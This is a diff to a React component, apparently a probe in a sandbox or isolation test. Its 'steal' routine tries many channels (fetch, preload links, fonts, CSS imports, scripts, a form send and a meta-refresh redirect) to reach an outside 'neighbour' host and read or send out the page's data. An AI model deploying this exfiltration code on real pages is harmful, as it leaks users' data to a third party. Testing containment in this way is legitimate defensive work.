@@ -1,18 +1,17 @@
 import { useEffect } from 'react';
+import { belongings } from './belongings.ts';
+import { documentsAndScripts, send } from './documents-and-scripts.ts';
+import { sheetsAndPictures } from './sheets-and-pictures.ts';
+import { add, adopt, tryAll, type Ways } from './try-all.ts';
 
 const neighbour: string = import.meta.env.VITE_NEIGHBOUR;
 const at = (way: string) => `${neighbour}/${way}`;
 
-/** Adds an element with these attributes, as its browser would load it. */
-function add(name: string, attributes: Readonly<Record<string, string>>, parent: Element = document.body) {
-  const element = document.createElement(name);
-  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
-  parent.append(element);
-  return element;
-}
-
-/** Each way to tell the neighbour something, or to read what is the page's, by its name. One that succeeds returns what it got. */
-const ways: Readonly<Record<string, () => unknown>> = {
+/** Each way to tell the neighbour something, or to read what is the page's. */
+const ways: Ways = {
+  ...sheetsAndPictures(at),
+  ...documentsAndScripts(at),
+  ...belongings,
   fetch: () => fetch(at('fetch')).then((answer) => answer.status),
   'fetch without cors': () => fetch(at('no-cors'), { mode: 'no-cors' }).then(() => 'sent'),
   'a call of the server': () => fetch('/api/leaderboard').then((answer) => answer.status),
@@ -37,11 +36,7 @@ const ways: Readonly<Record<string, () => unknown>> = {
   prerender: () => void add('link', { rel: 'modulepreload', href: at('modulepreload') }, document.head),
   icon: () => void add('link', { rel: 'icon', href: at('icon') }, document.head),
   font: () => new FontFace('x', `url(${at('font')})`).load(),
-  'imported sheet': () => {
-    const sheet = new CSSStyleSheet();
-    sheet.replaceSync(`@import url(${at('import')}); body { cursor: url(${at('cursor')}), auto }`);
-    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
-  },
+  'imported sheet': () => adopt(`@import url(${at('import')}); body { cursor: url(${at('cursor')}), auto }`),
   script: () => void add('script', { src: at('script') }),
   'script of a text': () => {
     const script = document.createElement('script');
@@ -89,20 +84,12 @@ const ways: Readonly<Record<string, () => unknown>> = {
 /** Tries every way, says in the console which got something, and at last leads its own frame to the neighbour. */
 export default function Scene() {
   useEffect(() => {
-    const tryAll = async () => {
-      const got: string[] = [];
-      for (const [name, run] of Object.entries(ways)) {
-        try {
-          const value = await Promise.race([run(), new Promise((resolve) => setTimeout(resolve, 300))]);
-          if (value !== undefined) got.push(`${name}: ${String(value)}`);
-        } catch {
-          // Refused.
-        }
-      }
-      console.info(`Ottenuto: ${got.length === 0 ? 'niente' : got.join('; ')}`);
+    const steal = async () => {
+      console.info(`Ottenuto: ${await tryAll(ways)}`);
+      send({ action: at('form-get') });
       add('meta', { 'http-equiv': 'refresh', content: `0;url=${at('refresh')}` }, document.head);
     };
-    void tryAll();
+    void steal();
   }, []);
   return <h1>Ruba</h1>;
 }
